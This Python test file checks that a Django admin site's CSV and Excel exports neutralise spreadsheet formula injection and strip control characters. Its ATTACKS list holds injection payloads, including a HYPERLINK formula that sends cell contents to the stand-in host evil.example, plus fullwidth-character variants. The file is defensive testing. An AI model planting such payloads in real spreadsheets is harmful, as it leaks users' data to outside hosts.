"""Downloads open safely: text that starts like a formula arrives as text, numbers as numbers,
and stored text with control characters does not break a workbook."""

import csv
import datetime
import io
import pathlib
import unicodedata
from decimal import Decimal

import openpyxl
import pytest
from django.urls import reverse
from hypothesis import given
from hypothesis import strategies as st

from admin_site.exports import FORMULA_STARTS, Spreadsheet, cell_value, starts_a_formula
from tests.factories import HouseholdFactory, MemberFactory, ProjectApplicationFactory
from tests.helpers import run_worker
from tests.register_files import person_id, upload
from tests.test_ledgers import download, rows, workbook

ATTACKS = [
    '=HYPERLINK("http://evil.example/?"&A1,"点击查看")',
    "@SUM(1)",
    "+1+2",
    "-1+2",
    "\t=1+2",
    "\r=1+2",
    "  =1+2",
    "\u3000＝1+2",
    "＋1+2",
    "－1+2",
    "＠SUM(1)",
]
PROJECT = pathlib.Path(__file__).resolve().parent.parent


def reread(value):
    """``value`` written as one cell of a real workbook and read back: (value, data type)."""
    book = Spreadsheet()
    book.sheet("s", ["h"], [10]).append([value])
    file = io.BytesIO()
    book.save(file)
    file.seek(0)
    cell = openpyxl.load_workbook(file).active["A2"]
    return cell.value, cell.data_type


def first_visible(text):
    return unicodedata.normalize("NFKC", text.lstrip()[:1])[:1]


def writable(text):
    """``text`` without the characters an Excel file cannot hold."""
    return "".join(c for c in text if c in "\t\n\r" or (ord(c) >= 32 and c not in "\ufffe\uffff"))


# Any text, and text made to start like a formula after some whitespace.
TEXTS = st.text() | st.builds(
    "".join,
    st.tuples(
        st.text(alphabet=" \t\r\n\u3000"),
        st.sampled_from(sorted(FORMULA_STARTS) + list("＝＋－＠﹦﹢﹣﹫")),
        st.text(),
    ),
)


@given(TEXTS)
def test_no_text_leaves_as_a_formula_or_breaks_the_workbook(text):
    safe = cell_value(text)
    assert safe in (writable(text), "'" + writable(text))
    assert safe.startswith("'") or (
        safe[:1] not in ("\t", "\r") and first_visible(safe) not in FORMULA_STARTS
    )
    value, kind = reread(safe)
    assert kind != "f"
    # XML reads every line ending back as a line feed.
    assert value == (safe.replace("\r\n", "\n").replace("\r", "\n") or None)


@given(
    st.one_of(
        st.integers(min_value=-(10**15), max_value=10**15),
        st.decimals(allow_nan=False, allow_infinity=False, places=2, max_value=10**9),
        st.dates(),
        st.none(),
    )
)
def test_numbers_and_dates_stay_what_they_are(value):
    assert cell_value(value) is value


@given(st.from_regex(r"\A[0-9]{12}\Z|\A[0-9]{17}[0-9X]\Z"))
def test_codes_and_id_numbers_stay_text_as_they_are(code):
    assert cell_value(code) == code
    assert reread(code) == (code, "s")


@pytest.mark.parametrize("attack", ATTACKS)
def test_each_formula_start_is_quoted(attack):
    assert cell_value(attack) == "'" + attack


def test_a_vertical_tab_or_other_control_character_is_dropped():
    assert cell_value("项目\x0b名称\x00\x1f") == "项目名称"
    assert cell_value("第一行\n第二行\t备注") == "第一行\n第二行\t备注"


def test_the_audit_csv_keeps_formula_comments_as_text(client, county, people):
    project = ProjectApplicationFactory(region=county.v11, creator=people.cadre)
    client.force_login(people.cadre)
    act = reverse("admin:project_library_projectapplication_act", args=[project.pk])
    for action, comment in (("submit_for_deliberation", ATTACKS[0]), ("decline", ATTACKS[1])):
        client.post(act, {"action": action, "comment": comment, "confirmed": "1"})
    project.refresh_from_db()
    assert project.state == "withdrawn"
    client.force_login(people.auditor)
    response = client.get(reverse("admin:inspector_export"), {"workflow": "project_library"})
    body = b"".join(response.streaming_content).decode("utf-8-sig")
    comments = [row[11] for row in csv.reader(io.StringIO(body))]
    assert "'" + ATTACKS[0] in comments and "'@SUM(1)" in comments
    assert not any(first_visible(c) in FORMULA_STARTS for c in comments)


def test_the_household_ledger_keeps_formula_names_as_text_and_survives_control_characters(
    client, county, people
):
    household = HouseholdFactory(region=county.v11, head_name=ATTACKS[0], phone="+8613900001234")
    MemberFactory(household=household, relation="head", name="@SUM(1)")
    MemberFactory(household=household, relation="child", name="王\x0b小明")
    book = workbook(download(client, people.office, "households"))
    head = rows(book["农户"])[1]
    assert head[4] == "'" + ATTACKS[0] and head[12] == "'+8613900001234"
    names = {row[5] for row in rows(book["家庭成员"])[1:]}
    assert names == {"'@SUM(1)", "王小明"}
    kinds = {cell.data_type for sheet in book for row in sheet.iter_rows() for cell in row}
    assert "f" not in kinds
    assert rows(book["家庭成员"])[1][3] == household.number


def test_the_project_ledger_keeps_formula_names_as_text(client, county, people):
    ProjectApplicationFactory(
        region=county.v11, creator=people.cadre, name="-2+3", location="@A1", total_funds=-1
    )
    book = workbook(download(client, people.office, "projects"))
    row = rows(book["项目"])[1]
    assert (row[3], row[6]) == ("'-2+3", "'@A1")
    assert row[10] == Decimal("-1") and row[7] == datetime.datetime(2025, 4, 1)
    assert all(cell.data_type != "f" for r in book["项目"].iter_rows() for cell in r)


def test_every_csv_and_excel_writer_goes_through_the_shared_cells():
    """A new export that writes CSV or Excel itself would skip the neutralising: keep them here."""
    writers = ("import csv", "from csv", "openpyxl", "xlsxwriter")
    sources = [
        path
        for package in ("admin_site", "approvals", "roles", "workflows", "bench")
        for path in (PROJECT / package).rglob("*.py")
        if any(word in path.read_text() for word in writers)
    ]
    # The imports read uploaded workbooks (workflows/spreadsheets.py) and write their templates
    # and error workbooks cell by cell through exports.cell_value (importing_workbooks, and
    # the registers' workbooks).
    importing = PROJECT / "workflows" / "rectification"
    assert sorted(sources) == [
        PROJECT / "admin_site" / "exports.py",
        importing / "importing_workbooks.py",
        PROJECT / "workflows" / "registers" / "workbooks.py",
        PROJECT / "workflows" / "spreadsheets.py",
    ]
    for writer in ("workflows/spreadsheets.py", "workflows/registers/workbooks.py"):
        assert "cell_value(" in (PROJECT / writer).read_text()


def text_cells(book):
    return [c for sheet in book for row in sheet.iter_rows() for c in row if c.value is not None]


def test_the_register_import_hands_back_the_uploaded_cells_as_text(
    client, county, people, django_capture_on_commit_callbacks
):
    """The errors workbook copies every cell of the uploaded file and lists the values found:
    none may run as a formula when the importer opens it."""
    headers = ["户编号", "行政村", "户主姓名", "姓名", "证件号码", "与户主关系", "识别年度"]
    lines = [[*headers, "性别", "备注"]]
    for i, attack in enumerate(ATTACKS, start=1):
        lines.append(
            [f"H{i}", "一村", f"张{i}", f"张{i}", person_id(i), "户主", "2016", attack, attack]
        )
    out = io.StringIO(newline="")
    csv.writer(out).writerows(lines)
    client.force_login(people.office)
    with django_capture_on_commit_callbacks(execute=True):
        job = upload(client, "households", out.getvalue().encode("utf-8"), "台账.csv")
    run_worker()
    response = client.get(reverse("admin:register_import_errors", args=[job.pk]))
    book = openpyxl.load_workbook(io.BytesIO(response.content))
    quoted = {("'" + attack).replace("\r", "\n") for attack in ATTACKS}
    copied = [[c.value for c in row] for row in book.worksheets[0].iter_rows(min_row=2)]
    assert {row[7] for row in copied} == quoted and {row[8] for row in copied} == quoted
    listed = {row[2] for row in book["错误清单"].iter_rows(min_row=2, values_only=True)}
    assert listed == quoted
    assert all(c.data_type != "f" for c in text_cells(book))
    assert not any(starts_a_formula(c.value) for c in text_cells(book) if c.data_type == "s")


def test_the_register_templates_keep_formula_like_place_names_as_text(client, county, people):
    county.t1.name, county.v11.name = "@SUM(1)", "=1+2"
    county.t1.save()
    county.v11.save()
    client.force_login(people.cadre)
    response = client.get(reverse("admin:register_import_template", args=["households"]))
    example = [c.value for c in openpyxl.load_workbook(io.BytesIO(response.content)).active[2]]
    assert example[1:3] == ["'@SUM(1)", "'=1+2"]
